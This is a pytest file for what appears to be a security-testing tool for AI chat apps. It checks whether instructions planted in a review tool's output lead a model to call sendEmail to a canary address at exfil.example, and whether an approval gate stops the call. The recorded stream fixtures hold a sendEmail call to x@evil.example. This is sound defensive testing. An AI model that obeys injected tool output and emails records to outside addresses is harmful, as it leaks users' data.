"""Apps that answer in the AI SDK's stream protocols, tested over `http:` with no `reply:`: the
answer, the tool calls and what became of each, and the approval gate, read as the chat window
reads them."""

from __future__ import annotations

import pytest

from demarcate.model import load
from demarcate.serve import BackgroundServer
from demarcate.testing.run import run_campaign
from demarcate.testing.targets import _aisdk
from tests.testing.ai_sdk_app import MANIFEST, Settings, make_app, spec


@pytest.fixture
def chat(tmp_path):
    settings = Settings()
    server = BackgroundServer(make_app(settings)).start()
    (tmp_path / "chat.yaml").write_text(MANIFEST)
    (tmp_path / "spec.yaml").write_text(spec(server.url))

    def campaign(probes: str):
        data = run_campaign(load([tmp_path / "chat.yaml"]), target=f"http:{tmp_path / 'spec.yaml'}", probes=probes,
                            concurrency=1, db=str(tmp_path / "h.sqlite"))
        return {r["probe"]: r for r in data["results"]}

    yield settings, campaign
    server.stop()


def held(result, control):
    return {x["control"]: x["held"] for x in result["chain"]}.get(control, "absent")


@pytest.mark.parametrize("protocol, header", [("ui", True), ("data", True), ("data", False)])
def test_the_stream_s_text_and_tool_calls_are_the_answer_and_what_the_model_did(chat, protocol, header):
    settings, campaign = chat
    settings.protocol, settings.header = protocol, header
    by = campaign("doc-email-records,doc-say-canary")
    mail = by["doc-email-records"]
    calls = [(c["name"], c["status"]) for c in mail["evidence"]["tool_calls"]]
    assert calls == [("lookupReviews", "success"), ("sendEmail", "success")]
    assert mail["evidence"]["tool_calls"][1]["arguments"]["to"] == mail["canary"] + "@exfil.example"
    # What the review tool returned is what the model read: the plant reached it.
    assert mail["evidence"]["delivered"] is True
    assert mail["outcome"] == "succeeded" and held(mail, "APP-TOOL-02") is False
    said = by["doc-say-canary"]
    # The text parts joined as the window shows them, not the stream's JSON.
    assert said["evidence"]["reply"].startswith(said["canary"] + " Here is what I found: ")
    assert '"type"' not in said["evidence"]["reply"] and said["outcome"] == "succeeded"


@pytest.mark.parametrize("gate", [False, True])
def test_a_llamaindex_backend_shows_what_it_retrieved_and_the_tools_its_agent_ran(chat, gate):
    """create-llama's and RAGapp's FastAPI backends: the data stream without its header or step parts,
    the retrieved nodes and the agent's tool runs as message annotations."""
    settings, campaign = chat
    settings.protocol, settings.header, settings.llamaindex, settings.gate = "data", False, True, gate
    mail = campaign("doc-email-records")["doc-email-records"]
    (call,) = mail["evidence"]["tool_calls"]
    assert call["name"] == "sendEmail" and call["arguments"]["kwargs"]["to"] == mail["canary"] + "@exfil.example"
    # The sources it says it retrieved are what the model was given: the plant among them.
    assert mail["evidence"]["delivered"] is True
    if gate:  # the tool's error is its output's `isError`
        assert call["status"] == "error" and mail["outcome"] == "unobservable" and held(mail, "APP-TOOL-02") is None
    else:
        assert call["status"] == "success" and mail["outcome"] == "succeeded" and held(mail, "APP-TOOL-02") is False


@pytest.mark.parametrize("protocol", ["ui", "data"])
def test_a_tool_that_raised_did_not_send_and_names_no_control(chat, protocol):
    settings, campaign = chat
    settings.protocol, settings.gate = protocol, True
    mail = campaign("doc-email-records")["doc-email-records"]
    assert [c["status"] for c in mail["evidence"]["tool_calls"]] == ["success", "error"]
    assert not settings.sent and mail["outcome"] == "unobservable" and held(mail, "APP-TOOL-02") is None


def test_a_call_waiting_for_the_user_s_approval_is_the_gate_holding_it(chat):
    settings, campaign = chat
    settings.approve = True
    mail = campaign("doc-email-records")["doc-email-records"]
    assert [c["status"] for c in mail["evidence"]["tool_calls"]] == ["success", "awaiting-approval"]
    assert not settings.sent
    assert mail["outcome"] == "blocked-by-application" and held(mail, "APP-TOOL-02") is True
    gate = next(x for x in mail["chain"] if x["control"] == "APP-TOOL-02")
    assert "sendEmail awaiting-approval" in gate["evidence"] and mail["canary"] in gate["evidence"]


def test_an_approval_asked_of_the_user_who_typed_the_attack_stops_nothing(chat, tmp_path):
    """The user typed the request and is the one asked to approve it: the gate held the call, but
    they can let it through. Not credited with the block, not blamed either (it held, for whoever
    approves), as the analysis counts no such gate on a path its user starts; an administrator's
    approval is another person's."""
    settings, campaign = chat
    settings.approve = True
    typed = campaign("user-email-records")["user-email-records"]
    assert [c["status"] for c in typed["evidence"]["tool_calls"]] == ["awaiting-approval"] and not settings.sent
    assert typed["outcome"] == "unobservable" and held(typed, "APP-TOOL-02") is None
    assert held(typed, "MOD-SAFE-03") is False
    gate = next(x for x in typed["chain"] if x["control"] == "APP-TOOL-02")
    assert "the user who typed the attack" in gate["evidence"]
    (tmp_path / "chat.yaml").write_text(MANIFEST.replace("confirmation: none", "confirmation: admin"))
    reviewed = campaign("user-email-records")["user-email-records"]
    assert reviewed["outcome"] == "blocked-by-application" and held(reviewed, "APP-TOOL-02") is True


def test_a_stream_that_carries_only_an_error_is_no_answer(chat):
    settings, campaign = chat
    settings.broken = True
    said = campaign("user-say-canary")["user-say-canary"]
    assert said["outcome"] == "error" and "stream ends in an error: An error occurred." in said["error"]


# As the real packages wrote them (ids shortened): ai 6 holding a call for approval, ai 4 a text answer.
AI6 = """data: {"type":"start"}

data: {"type":"start-step"}

data: {"type":"tool-input-start","toolCallId":"call_1","toolName":"sendEmail"}

data: {"type":"tool-input-delta","toolCallId":"call_1","inputTextDelta":"{\\"to\\": \\"x@evil.example\\"}"}

data: {"type":"text-end","id":"aitxt-1"}

data: {"type":"tool-input-available","toolCallId":"call_1","toolName":"sendEmail","input":{"to":"x@evil.example"}}

data: {"type":"tool-approval-request","approvalId":"aitxt-2","toolCallId":"call_1"}

data: {"type":"finish-step"}

data: {"type":"finish","finishReason":"tool-calls"}

data: [DONE]

"""
AI4 = """f:{"messageId":"msg-1"}
0:"Here is what I found: Hello th"
0:"ere"
e:{"finishReason":"stop","usage":{"promptTokens":null,"completionTokens":null},"isContinued":false}
d:{"finishReason":"stop","usage":{"promptTokens":null,"completionTokens":null}}
"""


def test_the_protocols_are_known_by_their_header_or_by_every_part_s_shape():
    held_call = _aisdk.read(AI6, {})
    assert held_call is not None and held_call.text == ""
    assert held_call.calls == [{"name": "sendEmail", "arguments": {"to": "x@evil.example"}, "status": "awaiting-approval"}]
    # The user said no (ai 6, in the turn that answers the request): the gate's decision, not any refusal.
    denied = _aisdk.read(AI6.replace('"type":"tool-approval-request","approvalId":"aitxt-2"', '"type":"tool-output-denied"'), {})
    assert denied is not None and denied.calls[0]["status"] == "approval-denied"
    text = _aisdk.read(AI4, {})
    assert text is not None and text.text == "Here is what I found: Hello there" and text.calls == []
    # Other answers are not taken for them: plain text, OpenAI's and Anthropic's own streams.
    assert _aisdk.read("a: hello\n0: not json\n", {}) is None
    assert _aisdk.read('data: {"object":"chat.completion.chunk","choices":[]}\n\n', {}) is None
    assert _aisdk.read('data: {"type":"content_block_delta","delta":{"text":"hi"}}\n\n', {}) is None
    # A hand-made stream that only shares the words `start` and `finish` is not read as one, to an empty answer.
    assert _aisdk.read('data: {"type":"start"}\n\ndata: {"type":"token","content":"Hello"}\n\n'
                       'data: {"type":"finish"}\n\n', {}) is None
    # With the header, a stream is read as one even where a part is new to us.
    tagged = _aisdk.read('data: {"type":"text-delta","id":"0","delta":"hi"}\n\ndata: {"type":"data-x"}\n\n',
                         {"x-vercel-ai-ui-message-stream": "v1"})
    assert tagged is not None and tagged.text == "hi"
